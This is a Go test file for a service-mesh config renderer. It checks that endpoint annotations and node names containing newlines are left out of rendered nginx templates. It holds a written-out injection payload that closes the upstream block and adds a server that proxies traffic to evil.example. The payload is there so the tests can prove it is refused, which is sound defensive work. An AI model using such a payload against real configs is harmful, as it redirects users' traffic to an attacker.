package render

import (
	"strconv"
	"strings"
	"testing"

	"github.com/switchboard-mesh/switchboard/endpoint"
)

// nginxUpstream is examples/upstream.tmpl with each server's team as a comment: the
// shape of template an annotation written on one node is rendered into on another.
const nginxUpstream = `upstream web {
{{- range registrations "prod" "http" "web" "" }}
    server {{ hostport .Address .Port }} weight={{ if .Weight }}{{ .Weight }}{{ else }}1{{ end }}; # {{ index .Annotations "team" }}
{{- end }}
}
`

// injected closes the upstream block and opens a server of its own.
const injected = "edge\n}\nserver {\n    listen 80;\n    location / { proxy_pass http://evil.example; }\n}\nupstream x {"

// TestRenderRefusesInjectedServerBlock: one node's annotation must not change the
// structure of the file another node renders. The endpoint carrying it is left out;
// the rest of the file is rendered as usual.
func TestRenderRefusesInjectedServerBlock(t *testing.T) {
	good := ep("prod", "web", "http", "10.0.0.1", 8080)
	good.Annotations = map[string]string{"team": "web"}
	evil := ep("prod", "web", "http", "10.0.0.2", 8080)
	evil.Annotations = map[string]string{"team": injected}
	eps := []endpoint.Endpoint{good, evil}
	endpoint.Sort(eps)

	got := renderOnce(t, nginxUpstream, eps)
	for _, bad := range []string{"server {", "evil.example", "10.0.0.2"} {
		if strings.Contains(got, bad) {
			t.Errorf("rendered upstream.conf contains %q:\n%s", bad, got)
		}
	}
	want := "upstream web {\n    server 10.0.0.1:8080 weight=1; # web\n}\n"
	if got != want {
		t.Errorf("rendered upstream.conf = %q, want %q", got, want)
	}
}

// refusalSample is three web endpoints: a clean one, one whose annotation "team" holds
// the injected block (its "pem" is a certificate with newlines), and one whose node
// holds a newline.
func refusalSample() []endpoint.Endpoint {
	clean := ep("prod", "web", "http", "10.0.0.1", 80)
	clean.Node, clean.Annotations = "n1", map[string]string{"team": "web", "pem": "none"}
	evil := ep("prod", "web", "http", "10.0.0.2", 80)
	evil.Node, evil.Annotations = "n2", map[string]string{"team": injected, "pem": "-----BEGIN-----\nMIIB\n-----END-----"}
	node := ep("prod", "web", "http", "10.0.0.3", 80)
	node.Node, node.Annotations = "n3\nserver {", map[string]string{"team": "web", "pem": "none"}
	eps := []endpoint.Endpoint{clean, evil, node}
	endpoint.Sort(eps)
	return eps
}

// TestRenderLeavesOutWhatItWouldPrint: whichever way a template prints a value with
// control characters, the endpoint is left out and the value never reaches the output;
// a template that does not print it renders the endpoint as usual. A template that
// fails on a refused value (compares it, measures it, passes it where a string is
// wanted) leaves out every endpoint it was given one of, since which one failed is not
// known.
func TestRenderLeavesOutWhatItWouldPrint(t *testing.T) {
	const each = `{{range registrations "" "" "web" ""}}`
	both := []string{"10.0.0.2", "10.0.0.3"}
	for _, c := range []struct {
		name, body, want string
		left             []string // addresses left out
	}{
		{"address only", `{{.Address}} `, "10.0.0.1 10.0.0.2 10.0.0.3 ", nil},
		{"a clean annotation of an endpoint with a refused one", `{{.Address}}={{.Annotations.team}} `, "10.0.0.1=web 10.0.0.3=web ", []string{"10.0.0.2"}},
		{"an absent annotation", `{{.Address}}={{index .Annotations "x"}} `, "10.0.0.1= 10.0.0.2= 10.0.0.3= ", nil},
		{"the refused annotation", `{{.Address}} {{.Annotations.pem}} `, "10.0.0.1 none 10.0.0.3 none ", []string{"10.0.0.2"}},
		{"the node", `{{.Address}} {{.Node}} `, "10.0.0.1 n1 10.0.0.2 n2 ", []string{"10.0.0.3"}},
		{"printf %s", `{{printf "%s %s" .Annotations.team .Node}} `, "web n1 ", both},
		{"printf %d", `{{printf "%d" .Annotations.team}} `, "%!d(string=web) %!d(string=web) ", []string{"10.0.0.2"}},
		{"printf %#v", `{{printf "%#v" .Annotations.pem}} `, `"none" "none" `, []string{"10.0.0.2"}},
		{"printf %x", `{{printf "%x" .Node}} `, "6e31 6e32 ", []string{"10.0.0.3"}},
		{"print", `{{print .Annotations.team}} `, "web web ", []string{"10.0.0.2"}},
		{"println", `{{println .Node}}`, "n1\nn2\n", []string{"10.0.0.3"}},
		{"html js urlquery", `{{html .Node}}{{js .Node}}{{urlquery .Node}} `, "n1n1n1 n2n2n2 ", []string{"10.0.0.3"}},
		{"the whole map", `{{.Annotations}} `, "map[pem:none team:web] map[pem:none team:web] ", []string{"10.0.0.2"}},
		{"the whole endpoint", `{{.}} `, "{prod web http 10.0.0.1 80 n1 1 0 map[pem:none team:web]    healthy} ", both},
		{"ranging over the annotations", `{{range $k, $v := .Annotations}}{{$k}}={{$v}} {{end}}`, "pem=none team=web pem=none team=web ", []string{"10.0.0.2"}},
		{"with", `{{with .Annotations.team}}{{.}}{{end}} `, "web web ", []string{"10.0.0.2"}},
		{"a comparison", `{{if eq .Annotations.team "web"}}{{.Address}} {{end}}`, "10.0.0.1 ", both},
		{"a length", `{{.Address}}:{{len .Node}} `, "10.0.0.1:2 ", both},
		{"a function that wants a string", `{{hostport .Node 1}} `, "n1:1 ", both},
	} {
		t.Run(c.name, func(t *testing.T) {
			tm, err := Parse("t.tmpl", []byte(each+c.body+`{{end}}`))
			if err != nil {
				t.Fatal(err)
			}
			out, refused, err := tm.Render(refusalSample())
			if err != nil {
				t.Fatalf("Render: %v", err)
			}
			if want := strings.ReplaceAll(c.want, `\n`, "\n"); string(out) != want {
				t.Errorf("output %q, want %q", out, want)
			}
			var left []string
			for _, r := range refused {
				left = append(left, r.Endpoint.Address)
			}
			if strings.Join(left, " ") != strings.Join(c.left, " ") {
				t.Errorf("left out %v, want %v", left, c.left)
			}
		})
	}
}

// TestRenderReportsWhy: each endpoint left out comes with the field and value that
// made it so; an endpoint whose annotation key or name holds a control character is
// left out of every template, printed or not.
func TestRenderReportsWhy(t *testing.T) {
	key := ep("prod", "web", "http", "10.0.0.4", 80)
	key.Annotations = map[string]string{"a\nb": "x"}
	eps := append(refusalSample(), key)
	endpoint.Sort(eps)
	tm, err := Parse("t.tmpl", []byte(`{{range registrations "" "" "" ""}}{{.Address}} {{.Node}} {{.Annotations.pem}}
{{end}}`))
	if err != nil {
		t.Fatal(err)
	}
	out, refused, err := tm.Render(eps)
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != "10.0.0.1 n1 none\n" {
		t.Errorf("output = %q", out)
	}
	want := []Refusal{
		{eps[1].Key(), "annotations[pem]", "-----BEGIN-----\nMIIB\n-----END-----"},
		{eps[2].Key(), "node", "n3\nserver {"},
		{eps[3].Key(), "annotations", "a\nb"},
	}
	if len(refused) != len(want) {
		t.Fatalf("refused %+v, want %+v", refused, want)
	}
	for i := range want {
		if refused[i] != want[i] {
			t.Errorf("refused[%d] = %+v, want %+v", i, refused[i], want[i])
		}
	}
}

// TestRenderWithRaw: a template that asks for a value raw gets it as stored, and
// nothing is left out.
func TestRenderWithRaw(t *testing.T) {
	tm, err := Parse("t.tmpl", []byte(`{{range registrations "" "" "web" ""}}{{raw .Node}}|{{end}}`))
	if err != nil {
		t.Fatal(err)
	}
	out, refused, err := tm.Render(refusalSample())
	if err != nil || string(out) != "n1|n2|n3\nserver {|" || len(refused) != 0 {
		t.Fatalf("Render = %q, %v, %v", out, refused, err)
	}
}

// TestRenderConverges: a template that prints only the first endpoint it is given
// reveals one refused value per pass; after a few the rendering leaves out every
// endpoint with one, and ends.
func TestRenderConverges(t *testing.T) {
	var eps []endpoint.Endpoint
	for i := range 8 {
		e := ep("prod", "web", "http", "10.0.0."+strconv.Itoa(10+i), 80)
		e.Annotations = map[string]string{"team": "t\n" + strconv.Itoa(i)}
		eps = append(eps, e)
	}
	eps = append(eps, ep("prod", "web", "http", "10.0.1.1", 80))
	endpoint.Sort(eps)
	tm, err := Parse("t.tmpl", []byte(`{{range registrations "" "" "" ""}}{{.Address}} {{index .Annotations "team"}}{{break}}{{end}}`))
	if err != nil {
		t.Fatal(err)
	}
	out, refused, err := tm.Render(eps)
	if err != nil || string(out) != "10.0.1.1 " || len(refused) != 8 {
		t.Fatalf("Render = %q, %d refused, %v; want only the clean endpoint", out, len(refused), err)
	}
}

// TestRenderKeepsATemplatesOwnError: an execution error that no refused value caused
// still fails the rendering, naming the template's line.
func TestRenderKeepsATemplatesOwnError(t *testing.T) {
	tm, err := Parse("t.tmpl", []byte("{{range registrations \"\" \"\" \"\" \"\"}}{{.Annotations.pem}}{{end}}\n{{index (registrations \"\" \"\" \"\" \"\") 5}}"))
	if err != nil {
		t.Fatal(err)
	}
	out, _, err := tm.Render(refusalSample())
	if err == nil || !strings.Contains(err.Error(), "t.tmpl:2:") || out != nil {
		t.Fatalf("Render = %q, %v; want the template's error at line 2", out, err)
	}
}
